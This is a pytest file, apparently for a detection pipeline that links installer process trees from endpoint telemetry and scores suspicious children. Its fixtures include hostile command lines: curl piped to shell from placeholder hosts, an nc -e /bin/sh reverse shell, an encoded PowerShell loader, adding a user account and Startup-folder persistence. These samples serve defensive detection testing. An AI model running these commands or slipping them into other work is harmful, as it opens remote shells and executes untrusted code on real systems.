    {"process": "tar xzf tool-1.0.tar.gz", "parent": 0},
    *(
        {"process": "true", "process_id": 200 + n, "parent": 0, "_time": START + 2}
        for n in range(9)
    ),
    {"process": "make", "process_id": 300, "parent": 0, "_time": START + 3},
    {"process": "sh -c 'curl http://a.example/x | sh'", "parent": 11, "_time": START + 4},
]


@pytest.mark.parametrize("times", [1, 2, 3])
def test_neither_idle_commands_nor_copies_hide_what_was_done_beside(times: int) -> None:
    rows = completed(BESIDE)
    (tree,) = (row for row in tree_rows(rows * times, shipped()) if "make" in str(row["process"]))
    assert tree["installer_family"] == "make"


def test_a_process_id_is_enough_to_be_beside_where_others_have_guids() -> None:
    """One row without a GUID on another host changes nothing."""
    guids = [{"process_guid": f"{{{n}}}"} for n in range(2)]
    fetched = {"process": "curl -O http://198.51.100.7/tool-1.0.tar.gz", "parent_process_id": 14}
    install = {"process": "pip install tool-1.0.tar.gz", "parent_process_id": 14}
    rows = completed(
        [{**fetched, **guids[0], "parent_process_guid": "{P}"}, {**install, **guids[1]}]
    )
    other = {
        "process": "ls",
        "process_name": "ls",
        "process_id": 9,
        "dest": "other",
        "_time": START,
    }
    scores = {tree_rows([*rows, *more], shipped())[0]["installer_score"] for more in ([], [other])}
    assert len(scores) == 1
    assert scores != {0}


def test_an_event_with_the_guid_of_another_process_is_not_an_installers() -> None:
    rows = completed(
        [
            {"process": "msiexec.exe /i a.msi", "process_id": 100, "process_guid": "{A}"},
            {
                "process_name": "chrome.exe",
                "process_id": 100,
                "process_guid": "{B}",
                "file_path": "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk",
                "action": "created",
            },
        ]
    )
    (tree,) = tree_rows(rows, shipped())
    assert "FIL" not in str(tree["signal_detail"])


def test_a_parent_that_is_known_by_its_path_alone_stands_in() -> None:
    child = {
        "process": "cmd.exe /c whoami & net user x y /add",
        "parent_process_path": "C:\\Windows\\System32\\msiexec.exe",
    }
    (tree,) = tree_rows(completed([child]), shipped())
    assert tree["process_name"] == "msiexec.exe"


def test_blanks_before_a_command_line_hide_nothing() -> None:
    line = " " * 33_000 + "bash -c curl -fsSL http://203.0.113.7/a.sh | bash"
    assert tree_rows(completed([{"process": line, "process_name": "bash"}]), shipped())


def test_how_a_host_is_spelled_changes_no_id() -> None:
    rows = completed([{"process": f"msiexec /i {n}.msi", "_time": START} for n in "ab"])
    ids = set()
    for spelled in (("h1", "H1"), ("H1", "h1")):
        both = [{**row, "dest": dest} for row, dest in zip(rows, spelled)]
        found = tuple(sorted(row["installer_tree_id"] for row in tree_rows(both, shipped())))
        assert len(found) == 2
        ids.add(found)
    assert len(ids) == 1


SCRIPT = {"dest": "h", "user": "u"}
LOADER = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"


@pytest.mark.parametrize("late", [0.5, 1.5])
def test_what_happened_before_the_richer_copy_of_a_process_is_still_its_own(late: float) -> None:
    """Two sensors have two clocks; what only the first tells is not lost by the second."""
    first = {
        **SCRIPT, "_time": START, "process_id": 100, "process_name": "msiexec.exe",
        "process": "msiexec.exe /i http://203.0.113.7/a.msi", "parent_process_id": 50,
        "parent_process_name": "cmd.exe",
    }  # fmt: skip
    richer = {**first, "_time": START + late, "process_guid": "{A}", "parent_process_guid": "{P}"}
    child = {
        **SCRIPT, "_time": START + 0.2, "process_id": 101, "process_name": "powershell.exe",
        "process": LOADER, "parent_process_id": 100, "parent_process_name": "msiexec.exe",
    }  # fmt: skip
    event = {
        "dest": "h", "_time": START + 0.2, "process_id": 100, "process_name": "msiexec.exe",
        "file_path": "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk", "action": "created",
    }  # fmt: skip
    (one,) = tree_rows([first, child, event], shipped())
    (both,) = tree_rows([first, richer, child, event], shipped())
    assert (both["installer_score"], both["signal"]) == (one["installer_score"], one["signal"])


def test_what_another_sensor_adds_hides_nothing_beside_an_installer() -> None:
    """The second names the shell by GUID; what the first tells of it stays beside it."""
    rows = completed(
        [
            {"process": "bash", "process_id": 50},
            {"process": "pip install evilpkg", "process_id": 54, "parent": 0},
            {"process": "python3 -m evilpkg", "process_id": 56, "parent": 0},
            {"process": "nc -e /bin/sh 203.0.113.4 4444", "process_id": 57, "parent": 2},
        ]
    )
    again = {**rows[1], "process_guid": "{I}", "parent_process_guid": "{S}"}
    (one,), (both,) = (tree_rows([*rows, *more], shipped()) for more in ([], [again]))
    assert one["installer_score"] > 60
    assert (both["installer_score"], both["tree"]) == (one["installer_score"], one["tree"])


def test_a_child_belongs_to_what_its_parent_had_become_by_exec() -> None:
    """One sensor tells every exec, the other the first image alone, with a GUID for all of them."""
    rows = completed(
        [
            {"process": "-bash", "process_id": 10},
            {"process": "bash -c 'apt-get install x'", "process_id": 11, "parent": 0},
            {"process": "apt-get install x", "process_id": 11, "parent": 0},
            {"process": "sh -c 'curl http://203.0.113.7/a | sh'", "process_id": 12, "parent": 2},
        ]
    )
    names = {"bash": "{10}", "apt-get": "{11}", "-bash": "{10}"}
    guided = [
        {
            **row,
            "process_guid": f"{{{row['process_id']}}}",
            "parent_process_guid": names.get(str(row.get("parent_process_name")), "{1}"),
        }
        for row in (rows[0], rows[1], rows[3])
    ]
    assert shapes(rows) == shapes([*rows, *guided]) == ["apt-get(sh)"]


def test_an_event_of_another_program_with_an_id_of_before_is_not_an_installers() -> None:
    """A process id is given again: by then it has another name, or much time has passed."""
    rows = completed(
        [
            {"process": "msiexec.exe /i C:\\t\\a.msi", "process_id": 100},
            {"process": "cmd.exe /c copy a b", "process_id": 101, "parent": 0},
        ]
    )
    path = "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk"
    event = {"dest": rows[0]["dest"], "process_id": 101, "file_path": path, "action": "created"}
    for days, name, owned in ((0.1, "cmd.exe", 1), (0.1, "OUTLOOK.EXE", 0), (2, "cmd.exe", 0)):
        late = {**event, "_time": float(rows[1]["_time"]) + 86_400 * days, "process_name": name}
        pipeline, kept = run([*rows, late], CATALOGUE)
        assert len(pipeline._tree(kept[0]).events) == owned, (days, name)


def test_guids_that_differ_in_case_are_one() -> None:
    guid = "{B81B27B7-1C4D-6571-0A01-00000000AB00}"
    rows = completed(
        [
            {"process": "msiexec.exe /i C:\\t\\a.msi", "process_id": 100, "process_guid": guid},
            {"process": "cmd.exe /c whoami", "process_id": 101, "process_guid": "{C}", "parent": 0},
            {"by": 0, "file_path": "C:\\x.exe", "action": "created"},
        ]
    )
    rows[1]["parent_process_guid"] = rows[2]["process_guid"] = guid.lower()
    pipeline, kept = run(rows, CATALOGUE)
    (tree,) = [pipeline._tree(one) for one in kept]
    assert (len(tree.nodes), len(tree.events)) == (2, 1)


def test_long_lines_are_not_kept_in_memory_for_good() -> None:
    rows = [{"process": "dpkg -i x.deb", "process_id": 1}]
    rows += [{"process": f"sh -c {i}{'x' * 30_000}", "process_id": i + 2, "parent": 0}
             for i in range(1_200)]  # fmt: skip
    pipeline, kept = run(completed(rows), CATALOGUE)
    assert kept
    linker = pipeline._linker
    assert linker is not None
    held = sum(len(process.process) for process in linker._processes.values())
    assert held <= MEMO_CHARS + 40_000
